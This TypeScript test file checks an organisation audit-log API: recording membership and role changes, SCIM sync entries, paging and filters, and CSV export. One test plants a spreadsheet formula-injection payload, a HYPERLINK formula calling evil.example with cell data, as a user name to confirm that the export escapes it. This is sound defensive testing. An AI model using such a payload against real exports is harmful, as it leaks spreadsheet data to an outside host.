import { newId } from '../../src/database/id';
import { inTransaction } from '../../src/database/transaction';
import { lockOrganisation } from '../../src/organisations/organisation-lock';
import { RoleSync } from '../../src/scim/roles/sync/role-sync';
import type { AuditEntry } from '../support/api-types';
import { send } from '../support/answers';
import { createTestApp, type TestApp } from '../support/app';
import {
  type Cast,
  createCast,
  createRoleMapping,
  createScimGroup,
  createScimUser,
  idOf,
  unique,
} from '../support/factories';
import { faultsOf } from '../support/faults';
import { createMembership, syncOf } from '../support/organisations';
import { allPages, nextPage } from '../support/pages';
import type { OrganisationPath, Query } from '../support/typed-paths';

/** A membership with a manual role only. */
const byHand = (role: string) => ({
  role,
  manual_role: role,
  scim_role: null,
  suspended: false,
  retained_last_owner: false,
});

describe('GET /v1/organisations/{org_id}/audit-log', () => {
  let test: TestApp;
  let cast: Cast;
  let path: OrganisationPath<'audit-log'>;
  let members: OrganisationPath<'members'>;

  beforeAll(async () => {
    test = await createTestApp();
  });

  beforeEach(async () => {
    cast = await createCast(test);
    path = `/v1/organisations/${cast.orgId}/audit-log`;
    members = `/v1/organisations/${cast.orgId}/members`;
  });

  afterAll(() => test.close());

  const read = (query: Query = ''): Promise<AuditEntry[]> => allPages(cast.admin, `${path}${query}`);
  /** Entries since it was called, oldest first. */
  const watch = async () => {
    const [last] = await read('?limit=1');
    return async (): Promise<AuditEntry[]> => {
      const entries = await read();
      return entries
        .slice(
          0,
          entries.findIndex(({ id }) => id === last?.id),
        )
        .reverse();
    };
  };
  /** A change by the user themself, in SQL. */
  const invitation = async (actorId: string) => {
    const invitation_id = newId();
    await test.dataSource.query(
      `INSERT INTO audit_log (id, org_id, action, actor_type, actor_id, subject_type, subject_id)
       VALUES (uuid_v7(), $1, 'invitation.declined', 'user', $2, 'invitation', $3)`,
      [cast.orgId, actorId, invitation_id],
    );
    return { invitation_id };
  };
  it('begins with the creation of the organisation', async () => {
    const name = unique('Organisation');
    const created = await cast.outsider.post('/v1/organisations', { name }, 201, { 'X-Request-Id': 'made-it' });
    const { id } = created.body;
    const userId = await idOf(cast.outsider);
    const log = (await cast.outsider.get(`/v1/organisations/${id}/audit-log`)).body;
    expect(log).toEqual([
      {
        id: expect.any(String) as string,
        created_at: expect.any(String) as string,
        action: 'member.added',
        actor: { type: 'user', id: userId, name: null, email: expect.stringMatching(/^outsider-of-/) as string },
        subject_type: 'member',
        subject_id: userId,
        subject_name: expect.stringMatching(/^outsider-of-/) as string,
        before: null,
        after: byHand('OWNER'),
        reason: 'created_organisation',
        details: null,
        request_id: 'made-it',
      },
    ]);
    expect(Math.abs(Date.now() - Date.parse(log[0]?.created_at ?? ''))).toBeLessThan(60_000);
  });

  it('contains every change by a person: who made it, the values before and after', async () => {
    const since = await watch();
    const bob = await test.as(unique('bob'));
    const { id: user_id, email } = (await bob.get('/v1/users/me')).body;
    const by = { type: 'user', id: await idOf(cast.owner) };
    const header = (id: string) => ({ 'X-Request-Id': id });
    const invited = await cast.owner.post(members, { email, role: 'MEMBER' }, 201, header('invite'));
    const invitation_id = invited.body.id;
    await bob.post(`/v1/users/me/invitations/${invitation_id}/accept`, undefined, 200, header('accept'));
    await cast.owner.patch(`${members}/${user_id}`, { role: 'ADMIN' }, 200, header('change'));
    await cast.owner.patch(`${members}/${user_id}`, { role: 'ADMIN' }, 200, header('same'));
    await cast.owner.patch(`${members}/${user_id}`, { role: 'MEMBER' }, 200, header('back'));
    await cast.owner.delete(`${members}/${user_id}`, 204, header('remove'));
    await cast.member.delete(`${members}/${await idOf(cast.member)}`, 204, header('leave'));
    // A refused change is not recorded.
    await cast.owner.delete(`${members}/${await idOf(cast.owner)}`, 409);

    const common = { subject_type: 'member', subject_id: user_id, actor: by, reason: 'manual', details: null };
    const [memberId, admin, member] = [await idOf(cast.member), byHand('ADMIN'), byHand('MEMBER')];
    const leaver = { ...common, subject_id: memberId, actor: { type: 'user', id: memberId } };
    expect(await since()).toMatchObject([
      {
        action: 'invitation.created',
        actor: by,
        subject_type: 'invitation',
        subject_id: invitation_id,
        before: null,
        after: { user_id: null, role: 'MEMBER' },
        request_id: 'invite',
      },
      {
        ...common,
        actor: { type: 'user', id: user_id },
        action: 'member.added',
        before: null,
        after: member,
        reason: 'accepted_invitation',
        details: { invitation_id },
        request_id: 'accept',
      },
      { ...common, action: 'member.role_changed', before: member, after: admin, request_id: 'change' },
      { ...common, action: 'member.role_changed', before: admin, after: member, request_id: 'back' },
      { ...common, action: 'member.removed', before: member, after: null, request_id: 'remove' },
      { ...leaver, action: 'member.removed', before: member, after: null, request_id: 'leave' },
    ]);
  });

  it('records a change of the manual role even if a higher SCIM role stays in force', async () => {
    const userId = await createMembership(test.dataSource, cast.orgId, { scim: 'ADMIN' });
    const since = await watch();
    await cast.owner.patch(`${members}/${userId}`, { role: 'MEMBER' });
    await cast.owner.delete(`${members}/${userId}`);
    const [scim, both] = [
      { ...byHand('ADMIN'), manual_role: null, scim_role: 'ADMIN' },
      { ...byHand('MEMBER'), role: 'ADMIN', scim_role: 'ADMIN' },
    ];
    expect(await since()).toMatchObject([
      { action: 'member.role_changed', subject_id: userId, before: scim, after: both },
      { action: 'member.role_changed', subject_id: userId, before: both, after: scim },
    ]);
  });

  it('records the changes of a sync with the mapping, the group and the run that caused them', async () => {
    const { id, userId } = await createScimUser(test.dataSource, cast.orgId);
    const groupId = await createScimGroup(test.dataSource, cast.orgId, [id]);
    const mappingId = await createRoleMapping(test.dataSource, cast.orgId, groupId, 'ADMIN');
    const since = await watch();
    const sync = await cast.admin.post(`/v1/organisations/${cast.orgId}/scim/sync`, undefined, 200);
    const runId = sync.headers.location?.split('/').at(-1);
    const scim = { ...byHand('ADMIN'), manual_role: null, scim_role: 'ADMIN' };
    expect(await since()).toMatchObject([
      {
        action: 'member.added',
        actor: { type: 'user', id: await idOf(cast.admin) },
        subject_id: userId,
        before: null,
        after: scim,
        reason: 'mapping',
        details: { change: 'joined', mapping_id: mappingId, group_id: groupId, run_id: runId },
        request_id: sync.headers['x-request-id'],
      },
    ]);
  });

  it('records who is retained as the last OWNER, and when that ends', async () => {
    const ownerId = await idOf(cast.owner);
    await createScimUser(test.dataSource, cast.orgId, { userId: ownerId, active: false });
    const since = await watch();
    await syncOf(cast.admin, cast.orgId);
    const user_id = await idOf(cast.member);
    await cast.owner.patch(`${members}/${user_id}`, { role: 'OWNER' }, 200, { 'X-Request-Id': 'heir' });

    const owner = byHand('OWNER');
    const retained = { ...owner, suspended: true, retained_last_owner: true };
    const suspended = { ...owner, role: null, suspended: true };
    expect(await since()).toMatchObject([
      { subject_id: ownerId, before: owner, after: retained, reason: 'last_owner', details: { change: 'retained' } },
      {
        subject_id: user_id,
        before: byHand('MEMBER'),
        after: owner,
        action: 'member.role_changed',
        request_id: 'heir',
      },
      {
        subject_id: ownerId,
        actor: { id: ownerId },
        action: 'member.removed',
        before: retained,
        after: suspended,
        reason: 'released_last_owner',
        request_id: 'heir',
      },
    ]);
  });

  it('names the token of the identity provider as long as it exists', async () => {
    const tokenId = newId();
    await test.dataSource.query(
      `INSERT INTO scim_tokens (id, org_id, name, prefix, digest) VALUES ($1, $2, 'Okta', 'tys_…', $3)`,
      [tokenId, cast.orgId, Buffer.from(tokenId)],
    );
    const { userId } = await createScimUser(test.dataSource, cast.orgId);
    await inTransaction(test.dataSource, async (manager) => {
      await lockOrganisation(manager, cast.orgId);
      const cause = { actorType: 'scim_token', actorId: tokenId, requestId: 'pushed' } as const;
      await test.app.get(RoleSync).apply(manager, cast.orgId, [userId], cause);
    });
    const actorOf = async () => (await read(`?subject_id=${userId}`))[0]?.actor;
    expect(await actorOf()).toEqual({ type: 'scim_token', id: tokenId, name: 'Okta', email: null });
    await test.dataSource.query(`DELETE FROM scim_tokens WHERE id = $1`, [tokenId]);
    expect(await actorOf()).toEqual({ type: 'scim_token', id: tokenId, name: null, email: null });
  });

  it('shows the names of people only while they are members, afterwards their ids', async () => {
    const { invitation_id } = await invitation(await idOf(cast.member));
    const memberId = await idOf(cast.member);
    await test.dataSource.query(`UPDATE users SET name = 'Mia' WHERE id = $1`, [memberId]);
    const actorOf = async () => (await read(`?subject_id=${invitation_id}`))[0]?.actor;
    expect(await actorOf()).toMatchObject({ id: memberId, name: 'Mia', email: expect.any(String) as string });
    const subjectOf = async () => (await read(`?subject_id=${memberId}`)).at(-1)?.subject_name;
    expect(await subjectOf()).toBe('Mia');
    await cast.member.delete(`${members}/${memberId}`);
    expect(await actorOf()).toEqual({ type: 'user', id: memberId, name: null, email: null });
    expect(await subjectOf()).toBeNull();
  });

  it('is read newest first, page by page, by subject and by time', async () => {
    const times = Array.from({ length: 9 }, (_, n) => Date.parse('2026-03-01T00:00:00.000Z') + n * 1_000);
    const [ann, ben] = [newId(), newId()];
    const ids: string[] = [];
    for (const [n, time] of times.entries()) ids.unshift(await insertEntry(test, cast.orgId, time, n % 3 ? ann : ben));
    const idsOf = async (query: string) => (await read(`?limit=2&to=2026-04-01T00:00:00Z${query}`)).map(({ id }) => id);
    expect(await idsOf('')).toEqual(ids);
    expect(await idsOf(`&subject_id=${ben.toUpperCase()}`)).toEqual(ids.filter((_, n) => n % 3 === 2));
    expect(await idsOf('&from=2026-03-01T00:00:02Z')).toEqual(ids.slice(0, 7));
    expect(await idsOf(`&subject_id=${ann}&from=2026-03-01T01:00:05%2B01:00`)).toEqual(
      ids.slice(0, 4).filter((_, n) => n % 3 !== 2),
    );
    expect((await read('?to=2026-03-01T00:00:02Z')).map(({ id }) => id)).toEqual(ids.slice(7));
    expect((await read(`?subject_id=${ann}`)).at(-1)?.created_at).toBe('2026-03-01T00:00:01.000Z');

    const next = nextPage(await cast.admin.get(`${path}?limit=1&subject_id=${ann}`)) as `${typeof path}?${string}`;
    expect(faultsOf(await cast.admin.get(`${next}&subject_id=${ben}`, 422))).toEqual(['query.subject_id value_error']);
    expect(faultsOf(await cast.admin.get(`${path}?subject_id=ann&from=yesterday`, 422))).toEqual([
      'query.subject_id uuid_parsing',
      'query.from datetime_parsing',
    ]);
  });

  it('is filtered by the kind of change and by who made it', async () => {
    const owner = await idOf(cast.owner);
    await invitation(await idOf(cast.member));
    const { id } = (await cast.admin.post(`/v1/organisations/${cast.orgId}/scim/tokens`, { name: 'Okta' })).body;
    const kindsOf = async (query: string) => (await read(`?limit=1${query}`)).map(({ action }) => action);
    expect(await kindsOf('&action=invitation.declined')).toEqual(['invitation.declined']);
    expect(await kindsOf(`&actor_id=${(await idOf(cast.member)).toUpperCase()}`)).toEqual([
      'invitation.declined',
      'member.added',
    ]);
    expect(await kindsOf(`&actor_id=${await idOf(cast.admin)}&action=scim_token.created&subject_id=${id}`)).toEqual([
      'scim_token.created',
    ]);
    expect(await kindsOf(`&actor_id=${owner}&action=scim_token.created`)).toEqual([]);
    expect(faultsOf(await cast.admin.get(`${path}?action=member&actor_id=owner`, 422))).toEqual([
      'query.action enum',
      'query.actor_id uuid_parsing',
    ]);
    const next = nextPage(await cast.admin.get(`${path}?limit=1&action=member.added`)) as `${typeof path}?${string}`;
    expect(faultsOf(await cast.admin.get(`${next}&action=member.removed`, 422))).toEqual(['query.action value_error']);
  });

  it('is a file for spreadsheets, in which no name is a formula', async () => {
    const memberId = await idOf(cast.member);
    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")\n+1';
    await test.dataSource.query(`UPDATE users SET name = $2 WHERE id = $1`, [memberId, hostile]);
    await invitation(memberId);
    const { name } = (await cast.admin.post(`/v1/organisations/${cast.orgId}/scim/tokens`, { name: '@SUM(1)' })).body;
    const answer = await cast.admin.get(`${path}?format=csv&limit=1`);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-\d{4}-\d\d-\d\d\.csv"$/);
    expect(answer.headers['cache-control']).toBe('no-store');
    expect(answer.headers.link).toBeUndefined();
    expect(answer.text.startsWith('\uFEFF"id","created_at","action",')).toBe(true);
    const [head, ...lines] = csvOf(answer.text);
    const entries = await read();
    expect(lines.map(([id]) => id)).toEqual(entries.map(({ id }) => id));
    const records = lines.map((line): Record<string, string> =>
      Object.fromEntries(line.map((cell, column) => [head?.[column] ?? '', cell])),
    );
    expect(records[0]).toEqual({
      id: entries[0]?.id,
      created_at: entries[0]?.created_at,
      action: 'scim_token.created',
      actor_type: 'user',
      actor_id: await idOf(cast.admin),
      actor_name: '',
      actor_email: entries[0]?.actor.email,
      subject_type: 'scim_token',
      subject_id: entries[0]?.subject_id,
      subject_name: '',
      before: '',
      after: JSON.stringify(entries[0]?.after),
      reason: '',
      details: '',
      request_id: entries[0]?.request_id,
    });
    expect(entries[0]?.after).toMatchObject({ name });
    expect(records[1]?.actor_name).toBe(`'${hostile}`);
    expect(records.filter(({ subject_name }) => subject_name === `'${hostile}`)).toHaveLength(1);
    const filtered = await cast.admin.get(`${path}?format=csv&action=invitation.declined`);
    expect(csvOf(filtered.text).map(([, , action]) => action)).toEqual(['action', 'invitation.declined']);
    expect(csvOf((await cast.admin.get(`${path}?format=csv&to=2020-01-01T00:00:00Z`)).text)).toHaveLength(1);
    const { url, token } = cast.admin;
    const headers = await send(`${url}${path}?format=csv`, { method: 'HEAD', ...(token !== undefined && { token }) });
    expect([headers.status, headers.text]).toEqual([200, '']);
    await cast.member.get(`${path}?format=csv`, 403);
  });

  it('is at most 100,000 changes a file, whose name and Link say that more follow', async () => {
    const { dataSource } = test;
    await dataSource.query(
      `INSERT INTO audit_log (id, org_id, action, actor_type, subject_type)
       SELECT uuid_v7(), $1, 'policy.changed', 'system', 'bundle' FROM generate_series(1, 100003)`,
      [cast.orgId],
    );
    const first = await cast.admin.get(`${path}?format=csv&action=policy.changed`);
    expect(first.headers['content-disposition']).toMatch(/-more-follows\.csv"$/);
    const ids = csvOf(first.text)
      .slice(1)
      .map(([id = '']) => id);
    expect(ids).toHaveLength(100_000);
    const rest = await cast.admin.get(nextPage(first) as `${typeof path}?format=csv`);
    expect(rest.headers['content-disposition']).toMatch(/\d\.csv"$/);
    ids.push(
      ...csvOf(rest.text)
        .slice(1)
        .map(([id = '']) => id),
    );
    expect(new Set(ids).size).toBe(100_003);
    expect(ids).toEqual([...ids].sort().reverse());
  });

  it('contains only its own organisation’s entries', async () => {
    const other = await createCast(test);
    const next = nextPage(await cast.admin.get(`${path}?limit=1`)) ?? '';
    const elsewhere = next.replace(cast.orgId, other.orgId) as typeof path;
    expect(faultsOf(await other.owner.get(elsewhere, 422))).toEqual(['query.cursor value_error']);
    const theirs = await allPages(other.owner, `/v1/organisations/${other.orgId}/audit-log`);
    const ours = new Set((await read()).map(({ id }) => id));
    expect(theirs.filter(({ id }) => ours.has(id))).toEqual([]);
    expect(theirs).toHaveLength(5);
    const common = await idOf(cast.owner);
    expect(await allPages(other.owner, `/v1/organisations/${other.orgId}/audit-log?subject_id=${common}`)).toEqual([]);
  });
});

/** @returns the cells of a file by line, as RFC 4180 reads them; every cell is in quotation marks */
function csvOf(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  for (const [, cell = '', end] of text.replace(/^\uFEFF/, '').matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    line.push(cell.replaceAll('""', '"'));
    if (end === ',') continue;
    lines.push(line);
    line = [];
  }
  return lines;
}

/** At a time in the past. */
async function insertEntry({ dataSource }: TestApp, orgId: string, time: number, subjectId: string): Promise<string> {
  const hex = time.toString(16).padStart(12, '0');
  const id = `${hex.slice(0, 8)}-${hex.slice(8)}-7${newId().slice(15)}`;
  await dataSource.query(
    `INSERT INTO audit_log (id, org_id, action, actor_type, subject_type, subject_id)
     VALUES ($1, $2, 'member.added', 'system', 'member', $3)`,
    [id, orgId, subjectId],
  );
  return id;
}
